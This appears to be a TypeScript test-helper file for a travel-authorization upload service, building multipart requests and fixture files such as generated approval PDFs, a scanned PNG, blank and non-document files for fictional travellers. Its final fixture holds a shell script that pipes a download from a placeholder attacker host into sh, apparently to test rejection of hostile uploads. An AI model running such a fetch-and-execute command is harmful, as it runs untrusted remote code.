// Upload Document requests as the browser sends them (multipart/form-data built by the platform's FormData),
// and small real files of each kind: approvals of a traveller as IRCC issues them (a text PDF, a scanned PNG, a scan
// saved as a PDF), drawn here so the desk's reading (issue 35) meets real text and real OCR.
import path from 'node:path';
import { createRequire } from 'node:module';
import { createCanvas, GlobalFonts } from '@napi-rs/canvas';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { UPLOAD_FIELDS } from '@eta/contracts';

export interface UploadFile {
  name: string;
  content: Buffer;
  /** What the browser claims; the server judges the content instead. */
  type?: string;
}

export async function uploadRequest(
  fields: Partial<
    Record<'orderId' | 'email' | 'mailServiceProvider' | 'sendAnywayReason' | 'confirmEmailChange', string>
  >,
  file?: UploadFile,
): Promise<{ payload: Buffer; headers: Record<string, string> }> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) if (value !== undefined) form.append(name, value);
  if (file) {
    form.append(
      UPLOAD_FIELDS.file,
      new Blob([new Uint8Array(file.content)], { type: file.type ?? 'application/octet-stream' }),
      file.name,
    );
  }
  const request = new Request('http://upload.test/', { method: 'POST', body: form });
  return {
    payload: Buffer.from(await request.arrayBuffer()),
    headers: { 'content-type': request.headers.get('content-type')! },
  };
}

/** Whom an approval names, and its own facts. */
export interface Approved {
  surname: string;
  givenNames: string;
  passportNumber: string;
  applicationNumber?: string;
  approvedOn?: string;
  expiresOn?: string;
}

/** The traveller of every test order (helpers/orders.ts), and the facts of their approval. */
export const TRAVELLER: Approved = {
  surname: 'Lovelace',
  givenNames: 'Ada',
  passportNumber: 'LV1234567',
  applicationNumber: 'V301234567',
  approvedOn: '2026-11-20',
  expiresOn: 'November 19, 2031',
};

/** The traveller of the intake's documented example application (helpers/intake.ts). */
export const INTAKE_TRAVELLER: Approved = { surname: 'García López', givenNames: 'María', passportNumber: 'PAA123456' };

/** Another traveller: an approval uploaded to the wrong order. */
export const STRANGER: Approved = {
  surname: 'Whitfield',
  givenNames: 'Kate',
  passportNumber: 'K48213571',
  applicationNumber: 'V309999999',
  approvedOn: '2026-11-21',
  expiresOn: 'November 20, 2031',
};

/** The lines of an eTA approval letter, as IRCC writes them. */
const approvalLines = (a: Approved) => [
  'Government of Canada',
  'Electronic Travel Authorization (eTA) approval',
  `Application number: ${a.applicationNumber ?? 'V300000000'}`,
  `Family name: ${a.surname.toUpperCase()}`,
  `Given name(s): ${a.givenNames.toUpperCase()}`,
  `Passport number: ${a.passportNumber}`,
  `Date of approval: ${a.approvedOn ?? '2026-11-20'}`,
  `eTA expiry date: ${a.expiresOn ?? 'November 19, 2031'}`,
];

/** An approval as a text PDF (what IRCC's e-mail attachment is). */
export async function approvalPdf(a: Approved = TRAVELLER): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  approvalLines(a).forEach((line, i) => page.drawText(line, { x: 60, y: 720 - i * 28, size: 14, font }));
  return Buffer.from(await doc.save());
}

const require = createRequire(import.meta.url);
GlobalFonts.registerFromPath(
  path.join(path.dirname(require.resolve('dejavu-fonts-ttf/package.json')), 'ttf', 'DejaVuSans.ttf'),
  'DejaVu Sans',
);

/** An approval as a phone photo or scan would give it: a PNG of the letter, text only as pixels. */
export function approvalPng(a: Approved = TRAVELLER): Buffer {
  const canvas = createCanvas(1240, 620);
  const g = canvas.getContext('2d');
  g.fillStyle = 'white';
  g.fillRect(0, 0, canvas.width, canvas.height);
  g.fillStyle = 'black';
  g.font = '28px "DejaVu Sans"';
  approvalLines(a).forEach((line, i) => g.fillText(line, 60, 70 + i * 66));
  return canvas.toBuffer('image/png');
}

/** A scan saved as a PDF: the letter's image on a page, no text in the PDF at all. */
export async function scannedApprovalPdf(a: Approved = TRAVELLER): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const image = await doc.embedPng(approvalPng(a));
  doc.addPage([620, 310]).drawImage(image, { x: 0, y: 0, width: 620, height: 310 });
  return Buffer.from(await doc.save());
}

/** The default traveller's approval, as a text PDF: what most upload tests send. */
export const PDF = await approvalPdf();

/** A scan of the default traveller's approval, as a PNG. */
export const APPROVAL_PNG = approvalPng();

/** A small but well-formed one-page PDF with nothing on it: a document the desk cannot read. */
export const BLANK_PDF = Buffer.from(
  [
    '%PDF-1.4',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
    'trailer << /Root 1 0 R >>',
    '%%EOF',
    '',
  ].join('\n'),
);

/** A 1×1 PNG: an image with nothing to read. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/** A ZIP archive (an empty one): neither a PDF nor an image. */
export const ZIP = Buffer.from('UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==', 'base64');

/** A 1×1 GIF: an image a PDF cannot draw as it is. */
export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
